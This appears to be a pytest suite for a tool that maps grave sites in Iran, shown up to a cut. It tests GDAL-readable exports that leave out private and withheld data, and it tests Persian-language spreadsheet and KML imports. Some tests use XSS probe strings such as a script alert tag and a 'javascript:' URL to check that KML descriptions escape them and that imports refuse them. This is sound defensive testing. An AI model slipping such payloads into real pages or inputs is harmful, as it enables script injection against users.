"""gravemap.exchange: exports that GDAL reads back whole, imports that refuse to guess."""

from __future__ import annotations

import copy
import csv
import html
import io
import json
import os
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gravemap import exchange, model
from gravemap.store import dumps_collection

from conftest import make_collection, make_site

DATA = Path(__file__).parent / "data" / "exchange"
PRIVATE_MARKER = "PRIVATE-MARKER-7f3a9c"
ADDED_BY_MARKER = "ADDEDBY-MARKER-51b2e0"
LOCATION_NOTE_MARKER = "PRECISE-SPOT-MARKER-88d1"
AHVAZ = (48.6842, 31.31901)  # GeoNames 144448, the gazetteer's centre of Ahvaz


def ahvaz_only(geonameid: int, country: str) -> tuple[float, float] | None:
    return AHVAZ if geonameid == 144448 else None


def sample_features() -> list[dict[str, Any]]:
    """Three synthetic sites: one with everything, one published at city level, one withheld."""
    full = make_site(
        "ir-synthetic-01",
        name="Synthetic site <one> & co",
        name_fa="گورستان ساختگی یک",
        city_fa="شهر آزمایشی",
        notes="Synthetic public note, «با متن فارسی»",
        victims={"low": 10, "high": 20, "sources": ["s1"], "note": "synthetic count"},
        private={"contact": PRIVATE_MARKER},
        added={"at": "2026-01-01T00:00:00Z", "by": ADDED_BY_MARKER},
    )
    full["geometry"]["coordinates"] = [54.0, 34.0, 1200.5]
    full["properties"]["sources"][1]["title"] = "<script>alert('x')</script> synthetic & title"
    city = make_site(
        "ir-ahvaz-01",
        name="Synthetic city-level site",
        city="Ahvaz",
        province="Khuzestan",
        location={
            "precision": "site",
            "method": "manual",
            "query": "Ahvaz",
            "geonameid": 144448,
            "note": LOCATION_NOTE_MARKER,
        },
        publish="city",
    )
    city["geometry"]["coordinates"] = [48.7011, 31.2904]
    withheld = make_site("ir-synthetic-03", name="Withheld synthetic site", publish="withheld")
    return [full, city, withheld]


def sample_sites() -> list[model.Site]:
    data = make_collection(*sample_features())
    assert model.validate_collection(data) == []
    return list(model.SiteCollection.from_geojson(data))


def export(
    tmp_path: Path,
    fmt: str,
    options: exchange.ExportOptions | None = None,
) -> Path:
    options = options or exchange.ExportOptions()
    sites, _ = exchange.prepare_for_export(sample_sites(), options, ahvaz_only)
    out = tmp_path / f"out.{fmt}"
    exchange.write_export(sites, fmt, out, include_private=options.include_private)
    return out


def read_back(path: Path) -> Any:
    """Every layer of an export, read with pyogrio (GDAL), as one frame."""
    import pandas as pd
    import pyogrio

    frames = [pyogrio.read_dataframe(path, layer=name) for name, _ in pyogrio.list_layers(path)]
    return pd.concat(frames, ignore_index=True)


def ogrinfo(*args: str) -> str:
    """Run Debian's ogrinfo (gdal-bin): a GDAL independent of the one inside pyogrio's wheel."""
    exe = shutil.which("ogrinfo")
    if exe is None:
        if os.environ.get("CI") == "true":
            pytest.fail("ogrinfo is missing on CI: install Debian's gdal-bin")
        pytest.skip("ogrinfo not installed (apt-get install gdal-bin) - GDAL CLI check not run")
    proc = subprocess.run([exe, *args], capture_output=True, text=True, check=True)
    assert "ERROR" not in proc.stderr, proc.stderr
    return proc.stdout


# ---------------------------------------------------------------------------------------------
# What leaves the file


def test_default_export_leaves_out_private_fields_withheld_sites_and_precise_city_points():
    sites, summary = exchange.prepare_for_export(sample_sites(), city_centre=ahvaz_only)
    assert [s.id for s in sites] == ["ir-synthetic-01", "ir-ahvaz-01"]
    assert summary.withheld_left_out == 1
    assert summary.moved_to_city_centre == ["ir-ahvaz-01"]
    assert sites[0].private is None and sites[0].added.by is None
    city = sites[1]
    assert (city.lon, city.lat) == AHVAZ
    assert city.location.to_json() == {
        "precision": "city",
        "method": "gazetteer",
        "query": "Ahvaz",
        "geonameid": 144448,
        "note": "exported at the centre of Ahvaz (publish: city); "
        "the recorded point was not exported",
    }


def test_export_options_keep_what_is_asked_for():
    options = exchange.ExportOptions(include_private=True, include_withheld=True)
    sites, summary = exchange.prepare_for_export(sample_sites(), options, ahvaz_only)
    assert [s.to_feature() for s in sites] == sample_features()
    assert summary.moved_to_city_centre == [] and summary.withheld_left_out == 0


def test_withheld_sites_asked_for_are_still_placed_at_their_city_centre():
    features = sample_features()
    features[2]["properties"]["location"] = {
        "precision": "exact",
        "method": "manual",
        "query": "x",
        "geonameid": 144448,
    }
    sites = list(model.SiteCollection.from_geojson(make_collection(*features)))
    out, _ = exchange.prepare_for_export(
        sites, exchange.ExportOptions(include_withheld=True), ahvaz_only
    )
    assert (out[2].lon, out[2].lat) == AHVAZ


def test_full_locations_keeps_points_but_not_private_fields():
    sites, _ = exchange.prepare_for_export(
        sample_sites(), exchange.ExportOptions(full_locations=True), ahvaz_only
    )
    assert (sites[1].lon, sites[1].lat) == (48.7011, 31.2904)
    assert sites[0].private is None


def test_city_level_site_without_geonameid_is_an_error_naming_the_site():
    features = sample_features()
    del features[1]["properties"]["location"]["geonameid"]
    sites = list(model.SiteCollection.from_geojson(make_collection(*features)))
    with pytest.raises(exchange.ExportError) as info:
        exchange.prepare_for_export(sites, city_centre=ahvaz_only)
    assert str(info.value) == (
        "ir-ahvaz-01: is published at city level but it has no location.geonameid, so its city "
        "centre is unknown; link the site to its city with `gravemap edit ir-ahvaz-01 "
        "--geonameid N` (find N with `gravemap geocode 'Ahvaz'`), or withhold it with "
        "`gravemap edit ir-ahvaz-01 --publish withheld`"
    )


@pytest.mark.parametrize("fmt", exchange.EXPORT_FORMATS)
def test_no_export_contains_private_text_withheld_sites_or_precise_city_points(tmp_path, fmt):
    path = export(tmp_path, fmt)
    raw = path.read_bytes()
    for secret in (
        PRIVATE_MARKER,
        ADDED_BY_MARKER,
        LOCATION_NOTE_MARKER,
        "ir-synthetic-03",
        "Withheld synthetic site",
    ):
        assert secret.encode() not in raw, secret
    assert b"ir-ahvaz-01" in raw
    # The recorded point of the city-level site is in no column and no geometry.
    frame = read_back(path)
    numbers = {round(float(v), 6) for c in ("lat", "lon") if c in frame.columns for v in frame[c]}
    if "geometry" in frame.columns and fmt != "csv":
        numbers |= {round(g.x, 6) for g in frame.geometry} | {round(g.y, 6) for g in frame.geometry}
    assert numbers.isdisjoint({48.7011, 31.2904})
    assert {AHVAZ[0], AHVAZ[1]} <= numbers or fmt == "geojson"


@pytest.mark.parametrize("fmt", exchange.EXPORT_FORMATS)
def test_include_private_and_withheld_keeps_them_in_every_format(tmp_path, fmt):
    options = exchange.ExportOptions(include_private=True, include_withheld=True)
    raw = export(tmp_path, fmt, options).read_bytes()
    for kept in (PRIVATE_MARKER, ADDED_BY_MARKER, "ir-synthetic-03", LOCATION_NOTE_MARKER):
        assert kept.encode() in raw, kept


# ---------------------------------------------------------------------------------------------
# GDAL reads every export


FIELDS = [
    *model.SUMMARY_COLUMNS,
    "history",
    "victims",
    "notes",
    "location_json",
    "status_history_json",
    "sources_json",
    "victims_json",
    "added_json",
]


@pytest.mark.parametrize("fmt", ["gpkg", "kml", "csv", "geojson"])
def test_pyogrio_reads_every_site_and_field_back(tmp_path, fmt):
    frame = read_back(export(tmp_path, fmt))
    columns = {c.lower() for c in frame.columns}
    if fmt == "geojson":
        assert {"name", "name_fa", "sources", "status_history", "location"} <= columns
        ids = sorted(frame["id"]) if "id" in frame.columns else None
        assert ids is None or ids == ["ir-ahvaz-01", "ir-synthetic-01"]
        return
    expected = {f for f in FIELDS if not (fmt == "kml" and f == "id")}
    assert expected <= columns
    id_column = "site_id" if fmt == "kml" else "id"
    assert sorted(frame[id_column]) == ["ir-ahvaz-01", "ir-synthetic-01"]
    first = frame[frame[id_column] == "ir-synthetic-01"].iloc[0]
    assert first["name_fa"] == "گورستان ساختگی یک"
    assert first["notes"] == "Synthetic public note, «با متن فارسی»"
    sources_json = first["sources_json"]
    if fmt == "kml":  # every KML text field is HTML-escaped, so viewers show it as text
        sources_json = html.unescape(sources_json)
    assert json.loads(sources_json) == sample_features()[0]["properties"]["sources"]
    assert first["history"] == "2001: intact; 2010-05-06: damaged (synthetic note)"
    assert first["victims"] == "10–20"
    assert first["sources"] == "https://example.org/report-1 | https://example.net/report-2"
    if fmt != "csv":
        assert frame.crs.to_epsg() == 4326
        geometry = frame[frame[id_column] == "ir-ahvaz-01"].geometry.iloc[0]
        assert (geometry.x, geometry.y) == pytest.approx(AHVAZ)


@pytest.mark.parametrize("fmt", ["gpkg", "kml", "csv", "geojson"])
def test_ogrinfo_from_debian_gdal_summarises_every_field(tmp_path, fmt):
    path = export(tmp_path, fmt)
    summary = ogrinfo("-al", "-so", str(path))
    assert "Feature Count: 2" in summary
    if fmt == "geojson":
        assert "sources_json" not in summary and "name_fa: String" in summary
        return
    for name in FIELDS:
        if fmt == "kml" and name in ("id", "name"):
            continue  # the Placemark's id attribute and its <name> (shown as Name)
        assert f"{name}: " in summary, name


@pytest.mark.parametrize("fmt", ["gpkg", "kml", "csv", "geojson"])
def test_ogrinfo_from_debian_gdal_shows_every_site_with_persian_text(tmp_path, fmt):
    listing = ogrinfo("-al", str(export(tmp_path, fmt)))
    for text in (
        "ir-synthetic-01",
        "ir-ahvaz-01",
        "گورستان ساختگی یک",
        "با متن فارسی",
        "report-2",
        "Synthetic city-level site",
    ):
        assert text in listing, text
    assert PRIVATE_MARKER not in listing and "ir-synthetic-03" not in listing


def test_csv_export_starts_with_a_byte_order_mark_for_excel(tmp_path):
    raw = export(tmp_path, "csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,name,name_fa,city,")
    assert "گورستان ساختگی یک".encode() in raw


def test_geojson_export_is_the_canonical_collection(tmp_path):
    options = exchange.ExportOptions(include_private=True, include_withheld=True)
    text = export(tmp_path, "geojson", options).read_text(encoding="utf-8")
    assert text == dumps_collection(make_collection(*sample_features()))


def test_empty_export_is_a_valid_file_in_every_format(tmp_path):
    for fmt in exchange.EXPORT_FORMATS:
        out = tmp_path / f"empty.{fmt}"
        exchange.write_export([], fmt, out)
        assert out.exists(), fmt


def test_gpkg_and_kml_cannot_go_to_a_stream():
    import io

    with pytest.raises(exchange.InputError, match="gpkg cannot be written to a stream"):
        exchange.write_export(sample_sites(), "gpkg", io.BytesIO())


def test_export_replaces_an_existing_file_whole(tmp_path):
    out = tmp_path / "out.gpkg"
    exchange.write_export(sample_sites(), "gpkg", out)
    exchange.write_export(sample_sites()[:1], "gpkg", out)
    assert len(read_back(out)) == 1
    assert [p.name for p in tmp_path.iterdir()] == ["out.gpkg"]


# ---------------------------------------------------------------------------------------------
# KML descriptions are escaped HTML


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        attributes = dict(attrs)
        if tag == "a":
            self.hrefs.append(attributes["href"] or "")
        assert set(attributes) <= {"href", "dir"}, attrs


ALLOWED_TAGS = {"div", "p", "b", "span", "br", "ul", "ol", "li", "a"}


def test_kml_description_shows_status_history_sources_and_precision():
    site = sample_sites()[0]
    text = exchange.kml_description(site)
    assert "Status: <b>damaged</b> (2010-05-06)" in text
    assert "<li>2001 intact [s1]</li>" in text
    assert "<li>2010-05-06 damaged: synthetic note [s1, s2]</li>" in text
    assert "Location precision: city (by manual)" in text
    assert (
        '[s1] Example Org, 2001: <a href="https://example.org/report-1">Synthetic report one</a>'
    ) in text
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; synthetic &amp; title" in text
    assert "<script" not in text


def test_kml_description_never_links_a_non_http_address():
    site = sample_sites()[0]
    site.sources[0].url = "javascript:alert(1)"
    parser = _Tags()
    parser.feed(exchange.kml_description(site))
    assert parser.hrefs == ["https://example.net/report-2"]


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.text(min_size=1, max_size=40), url=st.text(max_size=30))
def test_kml_description_escapes_any_text(text, url):
    site = sample_sites()[0]
    site.name = site.notes = site.sources[0].title = site.sources[0].publisher = text
    site.sources[0].quote = site.status_history[0].note = text
    site.sources[0].url = url
    parser = _Tags()
    parser.feed(exchange.kml_description(site))
    assert parser.tags <= ALLOWED_TAGS
    assert all(model.url_problem(h) is None for h in parser.hrefs)


# ---------------------------------------------------------------------------------------------
# Reading input files


class FakeResolver:
    """Stands in for gravemap.geocode.resolve_place: a fixed answer per query."""

    PLACES = {
        "Ahvaz": {
            "name": "Ahvaz",
            "name_fa": "اهواز",
            "lat": 31.31901,
            "lon": 48.6842,
            "geonameid": 144448,
            "province": "Khuzestan",
            "country": "IR",
            "population": 841145,
            "precision": "city",
            "score": 100.0,
        },
        "Rasht": {
            "name": "Rasht",
            "name_fa": "رشت",
            "lat": 37.27611,
            "lon": 49.58862,
            "geonameid": 118743,
            "province": "Gilan",
            "country": "IR",
            "population": 594590,
            "precision": "city",
            "score": 100.0,
        },
    }
    ALIASES = {"اهواز": "Ahvaz", "رشت": "Rasht"}

    def __init__(self) -> None:
        self.calls: list[tuple[str, str | None]] = []

    def __call__(
        self,
        query: str,
        *,
        country: str = "IR",
        province: str | None = None,
        candidates: int = 5,
        online: bool = False,
    ) -> dict[str, Any]:
        self.calls.append((query, province))
        name = self.ALIASES.get(query, query)
        if name in self.PLACES:
            return {"query": query, **self.PLACES[name]}
        if name == "Kazemabad":
            return {
                "query": query,
                "error": "ambiguous",
                "candidates": [
                    {
                        "name": "Kazemabad",
                        "name_fa": "کاظم آباد",
                        "province": "Kerman",
                        "population": 4060,
                        "lat": 30.56659,
                        "lon": 56.84509,
                        "geonameid": 128338,
                        "score": 100.0,
                    },
                    {
                        "name": "Kazemabad",
                        "name_fa": "کاظم آباد",
                        "province": "Razavi Khorasan",
                        "population": 3102,
                        "lat": 36.37313,
                        "lon": 59.63852,
                        "geonameid": 31240,
                        "score": 100.0,
                    },
                ],
            }
        return {"query": query, "error": "no match", "candidates": []}


def prepare(
    path: Path | str, resolver: Any = None, *, overrides: tuple[str, ...] = (), **settings_kw: Any
) -> exchange.PreparedImport:
    table = exchange.read_table(path)
    mapping = exchange.apply_mapping_overrides(
        exchange.guess_mapping(table.columns), overrides, table.columns
    )
    settings_kw.setdefault("added_at", "2026-02-03T04:05:06Z")
    return exchange.prepare_import(
        table,
        exchange.ImportSettings(mapping=mapping, **settings_kw),
        resolver=resolver or FakeResolver(),
    )


def features(prepared: exchange.PreparedImport) -> list[dict[str, Any]]:
    return [c.site.to_feature() for c in prepared.candidates]


def test_persian_header_csv_is_mapped_and_geocoded():
    resolver = FakeResolver()
    prepared = prepare(DATA / "persian_header.csv", resolver)
    assert prepared.problems == []
    assert prepared.mapping == {
        "name": "نام",
        "name_fa": "نام فارسی",
        "city": "شهر",
        "province": "استان",
        "status": "وضعیت",
        "date": "تاریخ",
        "source_url": "منبع",
        "publisher": "ناشر",
        "title": "عنوان",
        "quote": "نقل قول",
        "notes": "توضیحات",
    }
    assert resolver.calls == [("اهواز", "خوزستان"), ("رشت", "گیلان"), ("Rasht", None)]
    first, second, third = features(prepared)
    assert first == {
        "type": "Feature",
        "id": exchange.PLACEHOLDER_ID,
        "geometry": {"type": "Point", "coordinates": [48.6842, 31.31901]},
        "properties": {
            "name": "Synthetic site one",
            "name_fa": "گورستان آزمایشی یک",
            "city": "Ahvaz",
            "city_fa": "اهواز",
            "province": "Khuzestan",
            "country": "IR",
            "location": {
                "precision": "city",
                "method": "gazetteer",
                "query": "اهواز",
                "geonameid": 144448,
            },
            "status": "bulldozed",
            "status_history": [{"status": "bulldozed", "date": "2018-04-30", "sources": ["s1"]}],
            "sources": [
                {
                    "id": "s1",
                    "publisher": "Example Rights Group",
                    "title": "گزارش آزمایشی یک",
                    "url": "https://example.org/synthetic/fa-1",
                    "quote": "«نقل قول ساختگی»",
                }
            ],
            "verification": "reported",
            "notes": "Synthetic note, with a comma",
            "added": {"at": "2026-02-03T04:05:06Z"},
            "publish": "full",
        },
    }
    assert second["properties"]["name"] == "گورستان آزمایشی دو"
    assert second["properties"]["sources"][0]["publisher"] == "گروه نمونه"
    assert second["properties"]["status_history"][0]["date"] == "2016"
    # A row with no title is cited by its URL; "Paved over" is the status paved-over.
    assert third["properties"]["sources"][0]["title"] == "https://example.org/synthetic/fa-3"
    assert third["properties"]["status"] == "paved-over"


def test_spreadsheet_csv_with_bom_crlf_semicolons_decimal_commas_and_persian_digits():
    prepared = prepare(DATA / "excel_bom_crlf.csv")
    assert prepared.problems == []
    a, b, c = features(prepared)
    assert a["geometry"]["coordinates"] == [48.7011, 31.2904]
    assert a["properties"]["location"] == {
        "precision": "site",
        "method": "manual",
        "query": "Ahvaz",
    }
    assert a["properties"]["notes"] == "A synthetic note\nspanning two lines"
    assert b["geometry"]["coordinates"] == [49.6102, 37.255]
    assert b["properties"]["location"]["precision"] == "exact"
    assert c["properties"]["location"]["method"] == "gazetteer"  # no coordinates: geocoded
    assert [cand.row for cand in prepared.candidates] == [2, 3, 4]


def test_tab_separated_file_is_sniffed(tmp_path):
    path = tmp_path / "sites.tsv"
    path.write_text(
        "name\tcity\tsource\tpublisher\tdate\n"
        "Synthetic tab site\tAhvaz\thttps://example.org/t\tExample Org\t2019\n",
        encoding="utf-8",
    )
    prepared = prepare(path)
    assert prepared.problems == []
    assert features(prepared)[0]["properties"]["city"] == "Ahvaz"


def test_google_my_maps_kml_is_read_with_folders_descriptions_and_extended_data():
    prepared = prepare(DATA / "my_maps.kml", precision="site")
    assert prepared.problems == []
    assert prepared.mapping == {
        "name": "Name",
        "city": "City",
        "status": "Status",
        "date": "Date",
        "source_url": "Source",
        "publisher": "Publisher",
        "notes": "description",
    }
    assert prepared.ignored_columns == ["folder"]
    alpha, beta, gamma = features(prepared)
    assert alpha["geometry"]["coordinates"] == [48.7011, 31.2904]
    assert alpha["properties"]["notes"] == (
        "Synthetic description: a made-up site & nothing more.\nStatus: bulldozed\n"
        "Date: 2018-04-30\nSource: https://example.org/synthetic/alpha"
    )
    assert beta["properties"]["name"] == "Synthetic site Beta گورستان آزمایشی"
    assert gamma["properties"]["notes"] == (
        "Another made-up entry with a link: report (https://example.org/synthetic/gamma)"
    )
    assert gamma["properties"]["status"] == "built-upon"


def test_coordinates_without_precision_are_refused_never_assumed_exact():
    with pytest.raises(exchange.MissingPrecisionError, match="has coordinates but no precision"):
        prepare(DATA / "my_maps.kml")


def test_plain_geojson_points_are_mapped_like_a_spreadsheet(tmp_path):
    path = tmp_path / "points.geojson"
    path.write_text(
        json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "geometry": {"type": "Point", "coordinates": [48.7, 31.3]},
                        "properties": {
                            "name": "Synthetic point",
                            "url": "https://example.org/p",
                            "publisher": "Example Org",
                            "date": "2020",
                        },
                    },
                    {
                        "type": "Feature",
                        "geometry": {"type": "LineString", "coordinates": [[48, 31], [49, 32]]},
                        "properties": {
                            "name": "Synthetic line",
                            "url": "https://example.org/l",
                            "publisher": "Example Org",
                            "date": "2020",
                        },
                    },
                ],
            }
        ),
        encoding="utf-8",
    )
    prepared = prepare(path, precision="site")
    assert features(prepared)[0]["geometry"]["coordinates"] == [48.7, 31.3]
    assert [p.format("points.geojson") for p in prepared.problems] == [
        "points.geojson:row 2: geometry: is a LineString, but a site is one point; "
        "give the site's point (its centre)"
    ]


def write_csv(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "rows.csv"
    path.write_text(text, encoding="utf-8")
    return path


def problem_lines(prepared: exchange.PreparedImport) -> list[str]:
    return [p.format("rows.csv") for p in prepared.problems]


def test_every_bad_row_is_reported_with_its_row_number_and_fix(tmp_path):
    path = write_csv(
        tmp_path,
        (
            "name,city,status,date,url,publisher\n"
            "Synthetic ok,Ahvaz,intact,2019,https://example.org/ok,Example Org\n"
            "Synthetic no source,Ahvaz,intact,2019,,Example Org\n"
            "Synthetic ambiguous,Kazemabad,intact,2019,https://example.org/a,Example Org\n"
            "Synthetic unknown place,Nowhereville,bulldozd,1367-05-01,javascript:alert(1),\n"
        ),
    )
    prepared = prepare(path)
    assert [c.row for c in prepared.candidates] == [2]
    assert problem_lines(prepared) == [
        "rows.csv:row 3: source_url: is empty: every site needs a source; give the source's "
        "address in column 'url', or one for every row with --source-url",
        "rows.csv:row 4: city: 'Kazemabad' is ambiguous: 1. Kazemabad (کاظم آباد), Kerman, "
        "population 4,060 [30.56659, 56.84509]; 2. Kazemabad (کاظم آباد), Razavi Khorasan, "
        "population 3,102 [36.37313, 59.63852]; "
        "add the province in a province column, or give lat and lon",
        "rows.csv:row 5: city: no place called 'Nowhereville' in IR; correct the spelling in "
        "column 'city', or give lat and lon",
        "rows.csv:row 5: status: 'bulldozd' is not a known status; did you mean bulldozed? use "
        "one of: intact, at-risk, damaged, bulldozed, paved-over, built-upon, exhumed, unknown "
        "(or a word listed in import --help)",
        "rows.csv:row 5: source_url: URL scheme 'javascript' is not allowed (only http and "
        "https); give the source's http:// or https:// address",
        "rows.csv:row 5: date: '1367-05-01' has the Solar Hijri year 1367 but is written like a "
        "Gregorian date; write Solar Hijri dates as 1397/05/12 (here 1367/05/01), or give the "
        "Gregorian date",
    ]


def test_default_source_stands_in_for_rows_without_one(tmp_path):
    path = write_csv(tmp_path, "name,city\nSynthetic a,Ahvaz\nSynthetic b,Rasht\n")
    prepared = prepare(
        path,
        source_url="https://example.org/list",
        source_title="Synthetic list",
        source_publisher="Example Org",
        source_date="2019-05",
    )
    assert prepared.problems == []
    first = features(prepared)[0]["properties"]
    assert first["sources"] == [
        {
            "id": "s1",
            "publisher": "Example Org",
            "title": "Synthetic list",
            "url": "https://example.org/list",
            "date": "2019-05",
        }
    ]
    assert first["status"] == "unknown"
    assert first["status_history"][0]["date"] == "2019-05"


def test_row_without_publisher_or_date_is_a_problem(tmp_path):
    path = write_csv(tmp_path, "name,city,url\nSynthetic a,Ahvaz,https://example.org/a\n")
    assert problem_lines(prepare(path)) == [
        "rows.csv:row 2: publisher: is empty: who published the source?; give it in a publisher "
        "column, or for every row with --source-publisher",
        "rows.csv:row 2: date: is empty; give when the status was reported in a date column "
        "(e.g. 2019, 2019-05, 1398/02/15 or undated), or for every row with --status-date",
    ]


def test_solar_hijri_date_is_converted_and_its_text_kept(tmp_path):
    path = write_csv(
        tmp_path,
        "name,city,url,publisher,date\n"
        "Synthetic a,Ahvaz,https://example.org/a,Example Org,۱۳۹۷/۰۲/۱۰\n"
        "Synthetic b,Ahvaz,https://example.org/b,Example Org,1397-02-10\n",
    )
    prepared = prepare(path)
    assert problem_lines(prepared) == [
        "rows.csv:row 3: date: '1397-02-10' has the Solar Hijri year 1397 but is written like a "
        "Gregorian date; write Solar Hijri dates as 1397/05/12 (here 1397/02/10), or give the "
        "Gregorian date",
    ]
    entry = features(prepared)[0]["properties"]["status_history"][0]
    assert (entry["date"], entry["date_text"]) == ("2018-04-30", "۱۳۹۷/۰۲/۱۰")


def test_swapped_coordinates_are_caught_per_row(tmp_path):
    path = write_csv(
        tmp_path,
        "name,lat,lon,url,publisher,date\n"
        "Synthetic swapped,48.7,31.3,https://example.org/s,Example Org,2019\n",
    )
    assert problem_lines(prepare(path, precision="exact")) == [
        "rows.csv:row 2: lat: latitude and longitude look swapped; swap the two columns' values "
        "(latitude 31.3, longitude 48.7)"
    ]


def test_map_overrides_and_refuses_unknown_fields_and_columns():
    columns = ["Town", "Site"]
    guessed = exchange.guess_mapping(columns)
    assert guessed == {"name": "Site", "city": "Town"}
    assert exchange.apply_mapping_overrides(guessed, ["notes=Town", "name="], columns) == {
        "notes": "Town"
    }
    with pytest.raises(exchange.InputError, match="'town' is not a field"):
        exchange.apply_mapping_overrides(guessed, ["town=Town"], columns)
    with pytest.raises(exchange.InputError, match="the file has no column 'Village'"):
        exchange.apply_mapping_overrides(guessed, ["city=Village"], columns)


def test_headers_match_across_arabic_and_persian_letter_forms():
    assert exchange.guess_mapping(["نام", "عرض جغرافيايي", "طول\u200cجغرافیایی", "كشور"]) == {
        "name": "نام",
        "lat": "عرض جغرافيايي",
        "lon": "طول\u200cجغرافیایی",
        "country": "كشور",
    }


@pytest.mark.parametrize(
    "text,value",
    [
        ("۳۱٫۳۱۹", 31.319),
        ("31,319", 31.319),
        ("−48.5", -48.5),
        ("٣١.٥", 31.5),
        ("abc", None),
        ("nan", None),
    ],
)
def test_numbers_in_any_digits(text, value):
    assert exchange.parse_number(text) == value


# ---------------------------------------------------------------------------------------------
# Adding to a collection


def test_importing_twice_adds_nothing_the_second_time():
    collection = model.SiteCollection()
    prepared = prepare(DATA / "persian_header.csv")
    first = exchange.apply_import(collection, prepared)
    assert [s.id for _, s in first.added] == ["ir-ahvaz-01", "ir-rasht-01", "ir-rasht-02"]
    second = exchange.apply_import(collection, prepare(DATA / "persian_header.csv"))
    assert second.added == []
    assert second.skipped == [(2, "ir-ahvaz-01"), (3, "ir-rasht-01"), (4, "ir-rasht-02")]
    assert len(collection) == 3


def test_a_row_with_problems_means_nothing_is_added():
    collection = model.SiteCollection()
    prepared = prepare(
        DATA / "my_maps.kml", precision="site", overrides=("publisher=",), source_publisher=None
    )
    with pytest.raises(exchange.ImportProblemsError) as info:
        exchange.apply_import(collection, prepared)
    assert len(info.value.problems) == 3
    assert len(collection) == 0
    result = exchange.apply_import(collection, prepared, skip_invalid=True)
    assert result.added == []


# ---------------------------------------------------------------------------------------------
# Round trips


def full_export(tmp_path: Path, fmt: str) -> Path:
    return export(
        tmp_path, fmt, exchange.ExportOptions(include_private=True, include_withheld=True)
    )


def reimport(path: Path) -> list[dict[str, Any]]:
    collection = model.SiteCollection()
    result = exchange.apply_import(collection, prepare(path))
    assert result.skipped == []
    return collection.to_geojson()["features"]


def test_geojson_round_trip_reproduces_the_sites_exactly(tmp_path):
    assert reimport(full_export(tmp_path, "geojson")) == sample_features()


@pytest.mark.parametrize("fmt", ["gpkg", "csv", "kml"])
def test_tabular_round_trip_keeps_everything_but_elevation(tmp_path, fmt):
    expected = sample_features()
    expected[0]["geometry"]["coordinates"] = [54.0, 34.0]  # 2D points only
    assert reimport(full_export(tmp_path, fmt)) == expected


def test_round_trip_into_the_same_collection_skips_every_site(tmp_path):
    collection = model.SiteCollection.from_geojson(make_collection(*sample_features()))
    for fmt in exchange.EXPORT_FORMATS:
        result = exchange.apply_import(collection, prepare(full_export(tmp_path, fmt)))
        assert result.added == [] and len(result.skipped) == 3, fmt


def test_imported_site_whose_id_is_taken_gets_a_new_one(tmp_path):
    # Another file's ir-synthetic-01: another name and other sources, so another site.
    other = make_site("ir-synthetic-01", name="Different synthetic site")
    for source in other["properties"]["sources"]:
        source["url"] = source["url"].replace("report", "other-report")
    collection = model.SiteCollection.from_geojson(make_collection(other, retired=["ir-ahvaz-01"]))
    result = exchange.apply_import(collection, prepare(full_export(tmp_path, "geojson")))
    assert [s.id for _, s in result.added] == ["ir-testville-01", "ir-ahvaz-02", "ir-synthetic-03"]


# ---------------------------------------------------------------------------------------------
# Review findings fixed in exchange.py


def test_city_centre_export_carries_the_point_neither_in_query_nor_note():
    city = sample_sites()[1]
    # `gravemap add --lat/--lon` without --city stores the coordinates as the query.
    city.city = None
    city.location.query = "31.33412, 48.70113"
    sites, _ = exchange.prepare_for_export([city], city_centre=ahvaz_only)
    assert sites[0].location.to_json() == {
        "precision": "city",
        "method": "gazetteer",
        "query": "(not exported)",
        "geonameid": 144448,
        "note": "exported at the centre of its city (publish: city); "
        "the recorded point was not exported",
    }


def test_export_into_a_missing_folder_is_an_error_naming_the_folder(tmp_path):
    target = tmp_path / "no" / "such" / "out.csv"
    with pytest.raises(exchange.DataFileError) as info:
        exchange.write_export(sample_sites(), "csv", target)
    assert str(info.value) == (
        f"{target}: cannot be written: its folder {target.parent} does not exist; create it first"
    )
    assert not (tmp_path / "no").exists()


def test_export_through_a_symlink_replaces_its_target_and_keeps_the_link(tmp_path):
    real = tmp_path / "vault" / "sites.csv"
    real.parent.mkdir()
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "sites.csv"
    link.symlink_to(real)
    exchange.write_export(sample_sites(), "csv", link)
    assert link.is_symlink()
    assert len(read_back(real)) == 3


def test_export_keeps_the_mode_of_the_file_it_replaces(tmp_path):
    out = tmp_path / "private.geojson"
    out.write_text("{}", encoding="utf-8")
    out.chmod(0o600)  # a colleague's full copy, readable by its owner only
    exchange.write_export(sample_sites(), "geojson", out, include_private=True)
    assert out.stat().st_mode & 0o777 == 0o600


def test_export_into_a_named_pipe_writes_into_it_and_keeps_it(tmp_path):
    import stat
    import threading

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    exchange.write_export(sample_sites(), "kml", fifo)
    reader.join(timeout=30)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert received[0].startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<kml')


def test_csv_cell_over_the_csv_size_limit_is_a_message_not_a_traceback(tmp_path):
    path = tmp_path / "rows.csv"
    path.write_text('name,notes\nSynthetic,"' + "x" * 200_000 + '"\n', encoding="utf-8")
    with pytest.raises(exchange.DataFileError) as info:
        exchange.read_table(path)
    assert str(info.value) == (
        f"{path}: line 2: cannot be read as CSV (field larger than field limit (131072)); "
        "check that cell in the spreadsheet (a cell this long belongs in a linked document, "
        "not the table)"
    )


def test_blank_lines_above_the_csv_header_are_skipped_and_rows_keep_their_numbers(tmp_path):
    path = tmp_path / "rows.csv"
    path.write_text("\n\nname;city\nSynthetic;Ahvaz\n", encoding="utf-8")
    table = exchange.read_table(path)
    assert table.columns == ["name", "city"]
    assert [(r.number, r.values) for r in table.rows] == [
        (4, {"name": "Synthetic", "city": "Ahvaz"})
    ]


def test_csv_without_a_header_row_is_a_message(tmp_path):
    path = tmp_path / "rows.csv"
